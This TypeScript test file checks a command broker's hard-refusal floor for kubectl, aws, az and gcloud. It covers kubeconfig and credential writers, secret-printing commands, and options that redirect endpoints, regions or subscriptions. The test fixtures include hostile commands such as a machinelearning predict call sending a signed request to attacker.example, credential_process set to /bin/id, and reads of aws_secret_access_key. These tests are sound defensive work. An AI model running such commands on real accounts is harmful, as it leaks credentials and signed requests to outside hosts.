/**
 * Calls that would rewrite what a target means, or leave its endpoint, region or
 * subscription through a command's own option, are refused before any rule is
 * read, through the bundled providers' own tables (providers/kubectl, aws, az):
 * an accept-everything rule set cannot allow them.
 */
import { describe, expect, it } from "vitest";
import { effectiveLockedOptions, LOCKED_COMMAND_OPTION_FLOOR, lockedCommandsOf, withLockedCommandOptionFloor } from "../../../src/config/locked-floor.js";
import { toGrammarSpec, toPolicySettings } from "../../../src/config/provider-schema.js";
import { compilePolicy } from "../../../src/policy/compile.js";
import { evaluatePolicy } from "../../../src/policy/evaluate.js";
import type { ProviderPolicyContext } from "../../../src/policy/types.js";
import { bundledProviderConfig, ruleList } from "../../support/policy-helpers.js";

/** A bundled provider as the registry builds it; `withoutTable`: as an older tree's copy without `locked_command_options`. */
function bundled(name: string, withoutTable = false): ProviderPolicyContext {
  const config = bundledProviderConfig(name);
  if (withoutTable && config.argv !== undefined) delete config.argv.locked_command_options;
  return {
    tool: name,
    grammar: withLockedCommandOptionFloor(toGrammarSpec(config), config),
    lockedOptions: effectiveLockedOptions(config),
    lockedCommands: lockedCommandsOf(config),
    settings: toPolicySettings(config),
  };
}

/** Every call accepted by rules: only a broker floor can still refuse. */
function decide(ctx: ProviderPolicyContext, argv: readonly string[]) {
  const acceptAll = ["/.*/"];
  return evaluatePolicy(compilePolicy(ctx, { shared: ruleList([], acceptAll) }), argv).decision;
}

const kubectl = bundled("kubectl");
const aws = bundled("aws");
const az = bundled("az");

describe("kubectl_context: config writers are refused whatever the rules", () => {
  it.each([
    ["config", "set", "clusters.c.server", "https://127.0.0.1:1"],
    ["config", "set-cluster", "c"],
    ["config", "set-credentials", "u"],
    ["config", "set-context", "c"],
    ["config", "unset", "users.u"],
    ["config", "use-context", "other"],
    ["config", "use", "other"],
    ["config", "rename-context", "a", "b"],
    ["config", "delete-cluster", "c"],
    ["config", "delete-context", "c"],
    ["config", "delete-user", "u"],
    ["config", "some-future-writer"],
    ["config"],
    ["-n", "x", "config", "set", "a", "b"],
    ["config", "-v", "3", "set", "a", "b"],
    ["config", "--", "set", "a", "b"],
  ])("kubectl %j", (...argv) => {
    const decision = decide(kubectl, argv);
    expect(decision).toMatchObject({ result: "deny", source: "locked-command", command: "config" });
    expect(decision.reason).toContain("No rule, grant or approval can allow them");
    expect(decision.reason).toContain("kubeconfig");
  });

  it("kubectl [config view] is refused in every form: it prints OIDC refresh tokens, client secrets and exec env unredacted", () => {
    for (const argv of [
      ["config", "view"],
      ["config", "view", "--minify", "-o", "json"],
      ["config", "view", "--raw"],
    ]) {
      const decision = decide(kubectl, argv);
      expect(decision).toMatchObject({ result: "deny", source: "locked-command" });
      expect(decision.reason).toContain("refresh tokens");
    }
  });

  it.each([
    ["config", "get-contexts"],
    ["config", "current-context"],
    ["config", "get-clusters"],
    ["config", "get-users"],
    ["get", "configmaps"],
  ])("kubectl %j stays up to the policy", (...argv) => {
    expect(decide(kubectl, argv).result).toBe("accept");
  });

  it("names no agent token in the reason", () => {
    const decision = decide(kubectl, ["config", "set-credentials", "s3cr3t-token-value"]);
    expect(decision.reason).not.toContain("s3cr3t");
  });
});

describe("aws_profile: configure (but list), sts credential issuers and eks update-kubeconfig are refused whatever the rules", () => {
  it.each([
    ["configure", "set", "endpoint_url", "http://127.0.0.1:1"],
    ["configure", "set", "credential_process", "/bin/id"],
    ["configure", "get", "aws_secret_access_key"],
    ["configure", "export-credentials"],
    ["configure", "import", "--csv", "x"],
    ["configure", "sso"],
    ["configure"],
    ["--output", "json", "configure", "set", "region", "x"],
    ["configure", "--", "set", "region", "x"],
    ["--", "configure", "set", "region", "x"],
    ["eks", "update-kubeconfig", "--name", "c"],
    // Red team 9 F3's neighbour: fresh credentials (another role's or account's, or the target's own) printed to the caller.
    ["sts", "assume-role", "--role-arn", "arn:aws:iam::111111111111:role/x", "--role-session-name", "s"],
    ["sts", "assume-role-with-web-identity", "--role-arn", "r", "--role-session-name", "s", "--web-identity-token", "t"],
    ["sts", "assume-root", "--target-principal", "111111111111", "--task-policy-arn", "arn=x"],
    ["sts", "get-session-token"],
    ["sts", "get-federation-token", "--name", "n"],
    ["sts", "--", "assume-role"],
  ])("aws %j", (...argv) => {
    expect(decide(aws, argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });

  it.each([
    ["configure", "list"],
    ["configure", "list-profiles"],
    ["eks", "describe-cluster", "--name", "c"],
    ["sts", "get-caller-identity"],
    ["sts", "get-access-key-info", "--access-key-id", "AKIAEXAMPLE"],
    ["sts", "decode-authorization-message", "--encoded-message", "m"],
  ])("aws %j stays up to the policy", (...argv) => {
    expect(decide(aws, argv).result).toBe("accept");
  });
});

describe("aws_profile floor: sign-in and sign-out write or delete the cached credentials the target's profile uses", () => {
  // CLI v2's `login`/`logout` (awscli.customizations.login) write the profile's login_session and
  // its cached credentials, or delete them; `sso login|logout` write or delete the SSO token cache.
  // Refused even when the installed provider.yaml lists no locked command (an operator tree made
  // before these rows, or from a v1 CLI that has no `login`).
  const bundledAws = bundled("aws");
  const floorOnly = {
    ...bundledAws,
    lockedCommands: lockedCommandsOf({ ...bundledProviderConfig("aws"), targeting: { mode: "aws_profile", locked_options: [] } }),
  };
  it.each([
    ["login"],
    ["login", "--remote"],
    ["--output", "json", "login"],
    ["logout"],
    ["logout", "--all"],
    ["sso", "login"],
    ["sso", "login", "--no-browser", "--use-device-code"],
    ["sso", "login", "--sso-session", "other"],
    ["sso", "logout"],
    ["sso", "--", "login"],
  ])("aws %j", (...argv) => {
    expect(decide(bundledAws, argv)).toMatchObject({ result: "deny", source: "locked-command" });
    expect(decide(floorOnly, argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });

  it.each([
    ["sso", "list-accounts", "--access-token", "t"],
    ["sso", "list-account-roles", "--access-token", "t", "--account-id", "1"],
  ])("aws %j stays up to the policy", (...argv) => {
    expect(decide(floorOnly, argv).result).toBe("accept");
  });
});

describe("aws_profile floor: history prints the recorded responses of earlier commands, credentials included", () => {
  // With cli_history enabled, `aws history show` prints every recorded event of an earlier command
  // (any profile, run in or outside Torii): the Authorization header and the response body, so an
  // operator's `sts get-session-token` replays its SecretAccessKey and SessionToken.
  const floorOnly = {
    ...bundled("aws"),
    lockedCommands: lockedCommandsOf({ ...bundledProviderConfig("aws"), targeting: { mode: "aws_profile", locked_options: [] } }),
  };
  it.each([
    ["history", "show"],
    ["history", "show", "eec112c5-a53b-40e3-8d59-0764f7160f9f", "--include", "HTTP_RESPONSE"],
    ["history", "list"],
    ["--output", "json", "history", "--", "show"],
  ])("aws %j", (...argv) => {
    expect(decide(floorOnly, argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });
});

describe("aws: command options that leave the endpoint or region are locked in every spelling", () => {
  it.each([
    ["emr", "create-default-roles", "--iam-endpoint", "http://127.0.0.1:18999"],
    ["emr", "create-default-roles", "--iam-endpoint=http://127.0.0.1:18999"],
    ["emr", "create-default-roles", "--iam-end", "http://127.0.0.1:18999"],
    ["emr", "create-default-roles", "--iam=http://127.0.0.1:18999"],
    ["emr", "--iam-endpoint=http://127.0.0.1:18999", "create-default-roles"],
    ["--output", "json", "emr", "create-default-roles", "--iam-endpoint", "x"],
    ["emr", "create-default-roles", "--", "--iam-endpoint", "x"],
    ["emr", "--", "create-default-roles", "--iam-end=x"],
    ["dlm", "create-default-role", "--iam-endpoint", "x"],
    ["emr-containers", "update-role-trust-policy", "--cluster-name", "c", "--iam-endpoint", "x"],
    ["s3", "cp", "s3://a/k", "s3://b/k", "--source-region", "eu-west-1"],
    ["s3", "sync", "s3://a", "s3://b", "--source-reg=eu-west-1"],
    ["s3", "mv", "s3://a/k", "s3://b/k", "--source-region=eu-west-1"],
    // botocore's switch_host_machinelearning sends Predict's signed request to the host PredictEndpoint names
    // (checked with aws-cli 1.45: a 127.0.0.1 listener received the SigV4 request), in the JSON carrier too.
    ["machinelearning", "predict", "--cli-input-json", '{"MLModelId":"m","Record":{},"PredictEndpoint":"https://attacker.example"}'],
    ["machinelearning", "predict", '--cli-i={"PredictEndpoint":"https://attacker.example"}'],
    ["machinelearning", "--", "predict", "--ml-model-id", "m", "--record", "{}", "--predict-e", "attacker.example"],
    ["machinelearning", "predict", "--predict-endpoint=attacker.example"],
    // AWS CLI v2's YAML carrier sets it as well, whether or not the installed CLI has that carrier.
    ["machinelearning", "predict", "--cli-input-yaml", "PredictEndpoint: https://attacker.example"],
    ["machinelearning", "predict", "--cli-input-y=PredictEndpoint: https://attacker.example"],
  ])("aws %j", (...argv) => {
    expect(decide(aws, argv)).toMatchObject({ result: "deny", source: "locked-option" });
  });

  it("names the option and the command, not the value", () => {
    const decision = decide(aws, ["emr", "create-default-roles", "--iam-end=http://127.0.0.1:18999"]);
    expect(decision).toMatchObject({ source: "locked-option", option: "--iam-endpoint" });
    expect(decision.reason).toContain('"emr create-default-roles"');
    expect(decision.reason).not.toContain("18999");
  });

  it.each([
    ["s3", "ls", "--bucket-region", "eu-west-1"],
    ["ec2", "copy-image", "--source-region", "eu-west-1", "--source-image-id", "ami-1", "--name", "n"],
    ["emr", "list-clusters"],
    ["machinelearning", "get-ml-model", "--cli-input-json", '{"MLModelId":"m"}'],
  ])("aws %j stays up to the policy", (...argv) => {
    expect(decide(aws, argv).result).toBe("accept");
  });

  it("s3 cp with another option is not locked: only the local-file-write rule holds it (file-writes.ts)", () => {
    const decision = decide(aws, ["s3", "cp", "s3://a/k", "s3://b/k", "--sse", "AES256"]);
    expect(decision).toMatchObject({ result: "unresolved" });
    expect(decision.reason).toContain("can write a local file");
  });
});

describe("az: --ids (another subscription) is refused on every command", () => {
  it.each([
    ["vm", "show", "--ids", "/subscriptions/OTHER/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/v"],
    ["vm", "show", "--ids=/subscriptions/OTHER/resourceGroups/g/providers/Microsoft.Compute/virtualMachines/v"],
    ["vm", "show", "--id", "/subscriptions/OTHER/x"],
    ["resource", "delete", "--i", "/subscriptions/OTHER/x"],
    ["resource", "delete", "--ids", "/SUBSCRIPTIONS/a/x", "/Subscriptions/b/y", "--verbose"],
    ["resource", "delete", "--ids", "/subscriptions/a/x", "--", "/subscriptions/b/y"],
  ])("az %j", (...argv) => {
    // The value is refused whatever carries it (targeting.locked_values), before the --ids row is reached.
    expect(decide(az, argv)).toMatchObject({ result: "deny", source: "locked-option", option: "--subscription" });
  });

  it.each([
    ["vm", "show", "--resource-group", "g", "--name", "v"],
    ["role", "definition", "list", "--name", "00000000-0000-0000-0000-000000000000"],
    ["resource", "show", "-g", "g", "-n", "v", "--resource-type", "Microsoft.Compute/virtualMachines"],
    ["keyvault", "secret", "show", "--id", "https://v.vault.azure.net/secrets/s"],
  ])("leaves az %j to the policy", (...argv) => {
    expect(decide(az, argv).result).toBe("accept");
  });
});

describe("providers/aws/provider.yaml locked_command_options", () => {
  it("holds the options that redirect IAM or leave the region (generated by scripts/providers/aws-options.py)", () => {
    for (const command of [
      ["dlm", "create-default-role"],
      ["emr", "create-default-roles"],
      ["emr-containers", "update-role-trust-policy"],
    ]) {
      expect(aws.grammar.lockedCommandOptions).toContainEqual({ command, options: ["--iam-endpoint"] });
    }
    for (const verb of ["cp", "mv", "sync"]) expect(aws.grammar.lockedCommandOptions).toContainEqual({ command: ["s3", verb], options: ["--source-region"] });
  });

  it("is backed by the aws_profile floor, which the generated table covers, so an older tree's copy still refuses them", () => {
    const table = toGrammarSpec(bundledProviderConfig("aws"));
    for (const row of LOCKED_COMMAND_OPTION_FLOOR.aws_profile) expect(table.lockedCommandOptions).toContainEqual(row);
    const older = bundled("aws", true);
    expect(decide(older, ["emr", "create-default-roles", "--iam-end=http://127.0.0.1:18999"])).toMatchObject({ result: "deny", source: "locked-option" });
    expect(decide(older, ["s3", "cp", "s3://a/k", "s3://b/k", "--source-region", "eu-west-1"])).toMatchObject({ result: "deny", source: "locked-option" });
    expect(decide(older, ["machinelearning", "predict", "--cli-input-json", '{"PredictEndpoint":"https://attacker.example"}'])).toMatchObject({
      result: "deny",
      source: "locked-option",
    });
    expect(decide(older, ["machinelearning", "predict", "--cli-input-yaml", "PredictEndpoint: https://attacker.example"])).toMatchObject({
      result: "deny",
      source: "locked-option",
    });
  });
});

describe("aws_profile floor: CodeDeploy's local commands under every `deploy`", () => {
  /** The bundled aws provider without its own locked_commands, as an operator tree installed before them holds it. */
  function olderTree(): ProviderPolicyContext {
    const config = bundledProviderConfig("aws");
    if (config.targeting !== undefined) delete config.targeting.locked_commands;
    return { ...bundled("aws"), lockedCommands: lockedCommandsOf(config) };
  }

  it.each([
    ["deploy", "register", "--instance-name", "i"],
    ["cloudformation", "deploy", "--template-file", "t.yaml", "--stack-name", "s", "register", "--instance-name", "i"],
    ["ecs", "deploy", "--service", "s", "--task-definition", "td.json", "register", "--instance-name", "i"],
    ["deploy", "install", "--config-file", "c.yml"],
    ["ecs", "deploy", "uninstall"],
  ])("aws %j (a new IAM key printed, or the agent installer run) is refused by an older tree", (...argv) => {
    expect(decide(olderTree(), argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });
});

describe("credentials providers: targeting.locked_commands (az, gcloud)", () => {
  const gcloud = bundled("gcloud");

  it.each([
    ["account", "set", "--subscription-id", "other"],
    ["login"],
    ["config", "set", "core.output", "json"],
    ["configure", "--defaults", "group=g"],
    ["cloud", "register", "-n", "evil"],
    ["aks", "get-credentials", "-g", "g", "-n", "c"],
  ])("az %j is refused whatever the rules", (...argv) => {
    expect(decide(az, argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });

  it.each([
    ["config", "set", "api_endpoint_overrides/compute", "http://127.0.0.1:1/"],
    ["beta", "config", "unset", "account"],
    ["config", "configurations", "activate", "other"],
    ["auth", "login"],
    ["auth", "activate-service-account", "--key-file", "k.json"],
    ["container", "clusters", "get-credentials", "c"],
    ["--verbosity", "debug", "config", "set", "account", "x"],
    ["config", "--verbosity=debug", "set", "account", "x"],
    ["config", "--", "set", "account", "x"],
  ])("gcloud %j is refused whatever the rules", (...argv) => {
    expect(decide(gcloud, argv)).toMatchObject({ result: "deny", source: "locked-command" });
  });

  it.each([
    ["gcloud", ["config", "list"]],
    ["gcloud", ["config", "configurations", "list"]],
    ["gcloud", ["auth", "list"]],
    ["az", ["account", "show"]],
    ["az", ["cloud", "show"]],
    ["az", ["config", "get"]],
  ] as const)("%s %j stays up to the policy", (tool, argv) => {
    expect(decide(tool === "az" ? az : gcloud, argv).result).toBe("accept");
  });
});
